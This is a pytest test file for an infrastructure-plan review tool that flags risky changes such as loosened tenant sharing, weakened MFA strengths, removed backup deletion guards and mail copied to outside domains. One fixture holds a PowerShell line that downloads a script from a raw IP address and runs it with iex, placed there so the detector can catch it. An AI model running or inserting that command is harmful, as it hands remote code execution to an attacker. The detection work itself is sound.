"""Session 28: what a law firm's Microsoft 365 tenant, a car maker's update signing and a charity's backups showed
nothing here modelled — a workplace tenant's own settings, sign-in strengths, quorums, blind copies to a stranger's
domain, sign-in moved to another identity provider, lifecycle cleanups. Each principle holds its risky case and lets
its benign look-alike pass."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.pipeline.test_rules_detectors_through_configuration import judge, resource
from tfreview.pipeline.credential_names import names_object
from tfreview.pipeline.findings import Severity


def _high(tmp_path: Path, changes: list[dict[str, Any]]) -> set[str]:
    return {rule for rule, severity in judge(tmp_path, changes).items() if severity is Severity.HIGH}


def _setting(address: str, before: dict[str, Any], after: dict[str, Any]) -> dict[str, Any]:
    """A Graph-style settings object: camelCase keys under `body`."""
    return resource(address, {"url": "admin/settings", "body": after}, {"url": "admin/settings", "body": before})


# --- a workplace tenant's own settings -------------------------------------------------------------------------------

@pytest.mark.parametrize(("before", "after", "fires"), [
    ({"secureByDefault": True}, {"secureByDefault": False}, True),
    ({"secureByDefault": False}, {"secureByDefault": True}, False),                  # hardening
    ({"sharingCapability": "existingExternalUserSharingOnly"}, {"sharingCapability": "externalUserAndGuestSharing"},
     True),                                                                           # to anyone with a link
    ({"sharingCapability": "disabled"}, {"sharingCapability": "externalUserSharingOnly"}, True),  # to new guests
    ({"sharingCapability": "externalUserAndGuestSharing"}, {"sharingCapability": "externalUserSharingOnly"}, False),
    ({"sharingDomainRestrictionMode": "none"}, {"sharingDomainRestrictionMode": "allowList"}, False),  # fenced
    ({"inboundTrust": {"isMfaAccepted": False}}, {"inboundTrust": {"isMfaAccepted": True}}, True),
    ({"inboundTrust": {"isMfaAccepted": True}}, {"inboundTrust": {"isMfaAccepted": False}}, False),
])
def test_a_tenant_setting_loosened_is_high(tmp_path: Path, before: dict[str, Any], after: dict[str, Any],
                                           fires: bool) -> None:
    change = _setting("msgraph_update_resource.tenant", before, after)
    assert bool(_high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("enabled", "fires"), [(True, True), (False, False)])
def test_an_account_let_past_the_mailbox_audit_is_high(tmp_path: Path, enabled: bool, fires: bool) -> None:
    change = resource("exoadmin_mailbox_audit_bypass_association.sync",
                      {"identity": "svc-sync@example.com", "audit_bypass_enabled": enabled})
    assert ("detection-disabled" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("after", "fires"), [(True, True), (False, False)])
def test_automatic_forwarding_out_of_the_organisation_is_high(tmp_path: Path, after: bool, fires: bool) -> None:
    before = {"domain_name": "*", "auto_forward_enabled": False, "auto_reply_enabled": True}
    change = resource("exoadmin_remote_domain.default", {**before, "auto_forward_enabled": after}, before)
    assert ("public-access" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("after", "fires"), [(None, True), ("DomainValidation", False)])
def test_a_connector_dropping_its_required_tls_is_high(tmp_path: Path, after: str | None, fires: bool) -> None:
    before = {"name": "court-relay", "tls_settings": "EncryptionOnly", "smart_hosts": ["relay.example.org"]}
    change = resource("exoadmin_outbound_connector.relay", {**before, "tls_settings": after}, before)
    assert ("tls-downgrade" in _high(tmp_path, [change])) is fires


# --- sign-in strengths and quorums -----------------------------------------------------------------------------------

RESISTANT = ["fido2", "windowsHelloForBusiness", "x509CertificateMultiFactor"]


@pytest.mark.parametrize(("after", "fires"), [
    ([*RESISTANT, "password,sms"], True),
    ([*RESISTANT, "password,voice"], True),
    (["fido2", "windowsHelloForBusiness"], False),                  # fewer, all still phishing-resistant
    ([*RESISTANT, "passkey"], False),
])
def test_a_sign_in_strength_accepting_weak_factors_is_high(tmp_path: Path, after: list[str], fires: bool) -> None:
    before = {"display_name": "Admins", "allowed_combinations": RESISTANT}
    change = resource("azuread_authentication_strength_policy.admins", {**before, "allowed_combinations": after},
                      before)
    assert ("auth-weakened" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("before", "after", "fires"), [(2, 1, True), (3, 2, False), (1, 2, False)])
def test_a_signing_quorum_lowered_to_one_is_high(tmp_path: Path, before: int, after: int, fires: bool) -> None:
    old = {"name": "fleet", "signature_threshold": before, "trusted_key_ids": ["hsm-a", "hsm-b", "officer"]}
    change = resource("otaforge_signing_policy.fleet", {**old, "signature_threshold": after}, old)
    assert ("auth-weakened" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("role", "fires"), [
    ("e2a3a72e-5f79-4c64-b1b1-878b674786c9", True),   # Mail.ReadWrite: every mailbox in the tenant
    ("df021288-bdef-4463-88db-98f22de89214", False),  # User.Read.All: profiles only
])
def test_a_graph_application_permission_over_every_mailbox_is_high(tmp_path: Path, role: str, fires: bool) -> None:
    change = resource("azuread_app_role_assignment.graph", {"app_role_id": role, "resource_object_id": "9b2f0c4e",
                                                            "principal_object_id": "1d2c3b4a"})
    assert ("iam-privileged-role" in _high(tmp_path, [change])) is fires


# --- mail blind-copied to a stranger's domain ------------------------------------------------------------------------

@pytest.mark.parametrize(("copy_to", "fires"), [
    ("records@hc-archive-mail.net", True),          # a domain the plan never shows as the firm's own
    ("records@hartwellcole.com", False),            # the firm's own records mailbox
    ("records@archive.hartwellcole.com", False),    # one of its subdomains
])
def test_mail_blind_copied_to_an_outside_domain_is_high(tmp_path: Path, copy_to: str, fires: bool) -> None:
    change = resource("exoadmin_transport_rule.records_copy", {
        "name": "Records copy", "from_member_of": ["all-partners@hartwellcole.com"], "blind_copy_to": [copy_to],
        "mode": "Enforce"})
    assert ("foreign-data-share" in _high(tmp_path, [change])) is fires


# --- a sign-in app moved to another identity provider -----------------------------------------------------------------

OKTA_APP = {"label": "Client Extranet", "sso_url": "https://extranet.example.com/saml/acs",
            "audience": "https://extranet.example.com", "status": "ACTIVE"}


@pytest.mark.parametrize(("redirect", "fires"), [
    ("https://extranet.example.com/signin-oidc", False),   # the same site signs in through the new provider
    ("https://portal.example.com/signin-oidc", True),      # another site: the extranet loses its sign-in
])
def test_a_sign_in_app_deleted_beside_its_successor_elsewhere_is_medium(tmp_path: Path, redirect: str,
                                                                         fires: bool) -> None:
    gone = resource("okta_app_saml.extranet", None, OKTA_APP, actions=["delete"])
    successor = resource("azuread_application.extranet", {"display_name": "Client Extranet",
                                                          "web": [{"redirect_uris": [redirect]}]})
    assert ("resource-delete" in _high(tmp_path, [gone, successor])) is fires


# --- lifecycle cleanups beside an unchanged expiry -------------------------------------------------------------------

def _lifecycle(**extra: Any) -> dict[str, Any]:
    rule = {"id": "retain-7y", "status": "Enabled", "filter": [{"prefix": ""}],
            "expiration": [{"days": 2555}], "abort_incomplete_multipart_upload": [], **extra}
    return {"bucket": "backups-offsite", "rule": [rule]}


@pytest.mark.parametrize(("after", "fires"), [
    (_lifecycle(abort_incomplete_multipart_upload=[{"days_after_initiation": 7}]), False),  # cleanup only
    (_lifecycle(expiration=[{"days": 30}]), True),                                         # seven years → a month
])
def test_an_unchanged_whole_bucket_expiry_with_a_new_cleanup_is_quiet(tmp_path: Path, after: dict[str, Any],
                                                                      fires: bool) -> None:
    change = resource("aws_s3_bucket_lifecycle_configuration.offsite", after, _lifecycle())
    assert ("lifecycle-expiration" in _high(tmp_path, [change])) is fires


# --- exclusions added to an access policy ----------------------------------------------------------------------------

def _access_policy(excluded: list[str]) -> dict[str, Any]:
    return {"display_name": "Admins - phishing-resistant MFA", "state": "enabled",
            "conditions": [{"users": [{"included_roles": ["62e90394"], "excluded_groups": excluded}]}]}


@pytest.mark.parametrize(("group", "expected"), [
    ("IT Service Desk", Severity.HIGH),           # a team the policy was written for
    ("Emergency access (break-glass)", None),     # the accounts every such policy leaves out by design
])
def test_a_policy_newly_excluding_a_group_is_judged_by_who_it_is(tmp_path: Path, group: str,
                                                                 expected: Severity | None) -> None:
    known = {"id": "3d264274", "object_id": "3d264274", "display_name": group}
    changes = [resource("azuread_conditional_access_policy.admins", _access_policy(["3d264274"]), _access_policy([])),
               resource("azuread_group.excluded", known, known, actions=["no-op"])]
    assert judge(tmp_path, changes).get("auth-weakened") is expected


def test_a_policy_excluding_an_id_the_plan_never_shows_is_medium(tmp_path: Path) -> None:
    change = resource("azuread_conditional_access_policy.admins", _access_policy(["9f1b2c3d"]), _access_policy([]))
    assert judge(tmp_path, [change]).get("auth-weakened") is Severity.MEDIUM


# --- an MSP's and a data pipeline's plans -----------------------------------------------------------------------------

@pytest.mark.parametrize(("group", "fires"), [("allAuthenticatedUsers", True), ("projectReaders", False)])
def test_a_dataset_access_entry_for_every_signed_in_account_is_high(tmp_path: Path, group: str, fires: bool) -> None:
    change = resource("google_bigquery_dataset_access.reader", {"dataset_id": "raw_card_txn", "role": "READER",
                                                                "special_group": group, "user_by_email": None})
    assert ("iam-public-member" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("after", "fires"), [("PAUSED", True), ("HEALTHY", False)])
def test_a_dlp_trigger_paused_is_high(tmp_path: Path, after: str, fires: bool) -> None:
    before = {"display_name": "pan-scan", "status": "HEALTHY"}
    change = resource("google_data_loss_prevention_job_trigger.pan_scan", {**before, "status": after}, before)
    assert ("detection-disabled" in _high(tmp_path, [change])) is fires


READER, CONTRIBUTOR = "acdd72a7-3385-48ef-bd42-f606fba81ae7", "b24988ac-6180-42a0-ab88-20f7382dd24c"


def _delegation(role: str) -> dict[str, Any]:
    return {"name": "MSP", "scope": "/subscriptions/6c2e0d1f", "managing_tenant_id": "8e2c4a1b",
            "authorization": [{"principal_id": "6e0a3b9d", "principal_display_name": "Tier 1 Helpdesk",
                               "role_definition_id": role}]}


@pytest.mark.parametrize(("role", "fires"), [(CONTRIBUTOR, True), (READER, False)])
def test_a_lighthouse_delegation_raised_to_contributor_is_high(tmp_path: Path, role: str, fires: bool) -> None:
    change = resource("azurerm_lighthouse_definition.msp", _delegation(role), _delegation(READER))
    assert ("iam-privileged-role" in _high(tmp_path, [change])) is fires


CLEANUP = "Remove-Item -Path $env:TEMP\\* -Recurse -Force\n"


@pytest.mark.parametrize(("added", "fires"), [
    ("$u='http://185.212.47.90/u.ps1'; iex ((New-Object Net.WebClient).DownloadString($u))\n", True),
    ("Write-Output 'cleanup done'\n", False),
])
def test_a_managed_script_running_a_download_is_high(tmp_path: Path, added: str, fires: bool) -> None:
    before = {"name": "Weekly cleanup", "language": "powershell", "run_as": "system", "body": CLEANUP}
    change = resource("rmmhub_script.cleanup", {**before, "body": CLEANUP + added}, before)
    assert ("boot-script-weakens" in _high(tmp_path, [change])) is fires


def _vault_policy(*statements: dict[str, Any]) -> str:
    allow = {"Sid": "Operate", "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::318826410273:role/ops"},
             "Action": ["backup:StartBackupJob"], "Resource": "*"}
    return json.dumps({"Version": "2012-10-17", "Statement": [allow, *statements]})


GUARD = {"Sid": "DenyDeletion", "Effect": "Deny", "Principal": "*",
         "Action": ["backup:DeleteRecoveryPoint", "backup:UpdateRecoveryPointLifecycle"], "Resource": "*"}


@pytest.mark.parametrize(("after", "fires"), [
    (_vault_policy(), True),                                                        # the guard is gone
    (_vault_policy({**GUARD, "Sid": "KeepRecoveryPoints"}), False),                 # re-worded, same guard
    (_vault_policy({**GUARD, "Action": ["backup:*"]}), False),                      # a wider guard
])
def test_a_deny_on_erasing_recovery_points_removed_is_high(tmp_path: Path, after: str, fires: bool) -> None:
    change = resource("aws_backup_vault_policy.this", {"backup_vault_name": "customer", "policy": after},
                      {"backup_vault_name": "customer", "policy": _vault_policy(GUARD)})
    assert ("iam-wildcard" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("after", "fires"), [(False, True), (True, False)])
def test_a_runner_pool_that_reuses_machines_is_high(tmp_path: Path, after: bool, fires: bool) -> None:
    before = {"name": "oss", "ephemeral": True, "max_jobs_per_runner": 1}
    change = resource("runwarden_runner_pool.oss", {**before, "ephemeral": after}, before)
    assert ("supply-chain-opened" in _high(tmp_path, [change])) is fires


JCASC = ("controller:\n  JCasC:\n    configScripts:\n      security: |\n        jenkins:\n"
         "          authorizationStrategy: {}\n")


@pytest.mark.parametrize(("after", "fires"), [("unsecured", True), ("loggedInUsersCanDoAnything", False),
                                              ("roleBased", False)])
def test_a_service_whose_authorization_strategy_checks_no_one_is_high(tmp_path: Path, after: str,
                                                                     fires: bool) -> None:
    before = {"name": "jenkins", "chart": "jenkins", "values": [JCASC.format("roleBased")]}
    change = resource("helm_release.jenkins", {**before, "values": [JCASC.format(after)]}, before)
    assert ("auth-weakened" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("role", "fires"), [("roles/cloudkms.publicKeyViewer", False),
                                             ("roles/cloudkms.cryptoKeyDecrypter", True)])
def test_a_public_key_readable_by_everyone_is_not_a_public_grant(tmp_path: Path, role: str, fires: bool) -> None:
    change = resource("google_kms_crypto_key_iam_member.verify", {"crypto_key_id": "projects/p/keys/cosign",
                                                                  "role": role, "member": "allUsers"})
    assert ("iam-public-member" in _high(tmp_path, [change])) is fires


def _view(query: str, materialized: bool) -> dict[str, Any]:
    block = [{"query": query, "enable_refresh": True}]
    return {"dataset_id": "reporting", "table_id": "mv_hourly",
            "materialized_view": block if materialized else [], "view": []}


@pytest.mark.parametrize(("materialized", "expected"), [(True, Severity.MEDIUM), (False, Severity.HIGH)])
def test_a_materialized_view_remade_is_medium_and_a_table_is_high(tmp_path: Path, materialized: bool,
                                                                   expected: Severity) -> None:
    change = resource("google_bigquery_table.mv_hourly", _view("SELECT 2", materialized),
                      _view("SELECT 1", materialized), actions=["delete", "create"])
    assert judge(tmp_path, [change]).get("resource-replace") is expected


@pytest.mark.parametrize(("value", "names_one"), [
    ("airflow-connections-ledgerbridge_sftp", True),   # the Secret Manager secret that holds the connection
    ("sftp://etl:Q7v!x9Lk2p@files.example.com", False),  # the connection string itself
])
def test_a_connection_secret_named_beside_its_key_is_a_reference(value: str, names_one: bool) -> None:
    assert names_object("LEDGERBRIDGE_SFTP_CONN_SECRET", value) is names_one


@pytest.mark.parametrize(("after", "fires"), [("VERY_LIKELY", True), ("LIKELY", False), ("UNLIKELY", False)])
def test_a_scanner_likelihood_raised_two_steps_is_high(tmp_path: Path, after: str, fires: bool) -> None:
    before = {"display_name": "card data", "inspect_config": [{"min_likelihood": "POSSIBLE"}]}
    change = resource("google_data_loss_prevention_inspect_template.cards",
                      {**before, "inspect_config": [{"min_likelihood": after}]}, before)
    assert ("detection-disabled" in _high(tmp_path, [change])) is fires


# --- a trading firm's, a marketplace's and a consultancy's plans -----------------------------------------------------

def _mounting(mounts: list[dict[str, Any]]) -> dict[str, Any]:
    return {"metadata": [{"name": "proxy"}], "spec": [{"template": [{"spec": [{"container": [
        {"name": "proxy", "image": "proxy:1", "volume_mount": mounts}]}]}]}]}


@pytest.mark.parametrize(("after", "fires"), [
    ([], False),                                                                    # the host mount is gone whole
    ([{"name": "host", "mount_path": "/host/log", "read_only": False}], True),      # the same mount made writable
])
def test_a_read_only_mount_removed_whole_is_no_weakening(tmp_path: Path, after: list[dict[str, Any]],
                                                         fires: bool) -> None:
    before = _mounting([{"name": "host", "mount_path": "/host/log", "read_only": True}])
    change = resource("kubernetes_deployment.proxy", _mounting(after), before)
    assert ("auth-weakened" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("role", "fires"), [("roles/cloudkms.cryptoKeyEncrypterDecrypter", True),
                                             ("roles/cloudkms.viewer", False)])
def test_a_whole_domain_allowed_to_decrypt_is_high(tmp_path: Path, role: str, fires: bool) -> None:
    sa = "serviceAccount:payouts@prod.iam.gserviceaccount.com"
    change = resource("google_kms_crypto_key_iam_binding.payouts",
                      {"crypto_key_id": "k", "role": role, "members": ["domain:example-eng.com", sa]},
                      {"crypto_key_id": "k", "role": role, "members": [sa]})
    assert ("iam-privileged-role" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("after", "fires"), [(False, True), (True, False)])
def test_a_payout_destination_without_its_verification_hold_is_high(tmp_path: Path, after: bool, fires: bool) -> None:
    before = {"name": "couriers", "routing_number": "021000021", "require_verification_hold": True}
    change = resource("paylane_payout_destination.couriers", {**before, "require_verification_hold": after}, before)
    assert ("auth-weakened" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("address", "expected"), [
    ("attestly_signing_key.release", Severity.MEDIUM),               # a signing key rotated, the new one first
    ("aws_route53_key_signing_key.zone", Severity.HIGH),             # DNSSEC's key-signing key: the chain breaks
])
def test_a_signing_key_rotated_is_medium_but_a_dnssec_key_signing_key_is_not(tmp_path: Path, address: str,
                                                                            expected: Severity) -> None:
    change = resource(address, {"name": "release-2026"}, {"name": "release-2025"}, actions=["create", "delete"])
    change["change"]["replace_paths"] = [["name"]]
    assert judge(tmp_path, [change]).get("resource-replace") is expected
